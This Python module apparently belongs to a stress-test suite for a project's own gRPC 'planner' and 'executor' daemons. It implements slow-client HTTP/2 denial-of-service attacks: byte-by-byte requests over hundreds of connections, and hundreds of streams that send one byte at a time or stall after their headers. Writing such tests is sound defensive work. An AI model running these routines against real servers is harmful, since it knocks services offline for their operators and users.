# SPDX-License-Identifier: Apache-2.0
"""Clients that send slowly, or stop in the middle."""
import struct
import time

import http2
from flood import attack, hold
from daemons import HONEST_CALLS

STREAMS = 256  # that a daemon allows per connection
SECONDS_PER_BYTE = 0.5


def drip(target, until, connections, data):
    """Sends `data` byte by byte over each of many connections."""
    open_ones = []
    for position in range(len(data)):
        while len(open_ones) < connections:
            try:
                open_ones.append(http2.connect(target))
            except OSError:
                break
        for one in list(open_ones):
            try:
                one.sendall(data[position:position + 1])
            except OSError:
                one.close()
                open_ones.remove(one)
        if time.monotonic() > until:
            break
        time.sleep(SECONDS_PER_BYTE)
    for one in open_ones:
        one.close()


@attack("planner", "executor")
def byte_by_byte(target, until):
    """A call, byte by byte, over as many connections as there are descriptors."""
    drip(target, until, 300, http2.PREFACE + http2.settings() + http2.call(1, *HONEST_CALLS[target.kind]))


@attack("planner", "executor")
def message_byte_by_byte(target, until):
    """Calls on all streams whose requests come a byte at a time."""
    path = HONEST_CALLS[target.kind][0]
    connections = []
    begun = b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.request_headers(path)) +
                     http2.frame(http2.DATA, 0, stream, b"\0" + struct.pack(">I", 1 << 20))
                     for stream in range(1, 2 * STREAMS, 2))
    more = b"".join(http2.frame(http2.DATA, 0, stream, b"x") for stream in range(1, 2 * STREAMS, 2))
    while time.monotonic() < until:
        while len(connections) < 20:
            try:
                connections.append(http2.open_http2(target))
                connections[-1].sendall(begun)
            except OSError:
                break
        for one in list(connections):
            try:
                one.sendall(more)
            except OSError:
                connections.remove(one)
        time.sleep(SECONDS_PER_BYTE)


def stalled_streams(path, request):
    return lambda state: b"".join(http2.call(stream, path, request, end=False) for stream in range(1, 2 * STREAMS, 2))


@attack("planner")
def verification_stalls(target, until):
    """Schedules to verify that stop after the task."""
    task = http2.field(1, http2.field(1, 1000) + http2.field(2, 1024) + http2.field(3, 2048))
    hold(target, until, 20, http2.open_http2, stalled_streams("/recurve.planner.v1.ScheduleService/VerifySchedule", task))


@attack("executor")
def upload_stalls(target, until):
    """Uploads of data that stop after their description."""
    file = http2.field(1, b"name") + http2.field(2, 1 << 20) + http2.field(3, b"0" * 64)
    hold(target, until, 20, http2.open_http2,
         stalled_streams("/recurve.executor.v1.ExecutorService/UploadData", http2.field(1, file)))


@attack("executor")
def model_upload_stalls(target, until):
    """Uploads of models of which not even the description comes."""
    headers = http2.request_headers("/recurve.executor.v1.ExecutorService/UploadModel")
    hold(target, until, 20, http2.open_http2, lambda state: b"".join(
        http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers) for stream in range(1, 2 * STREAMS, 2)))
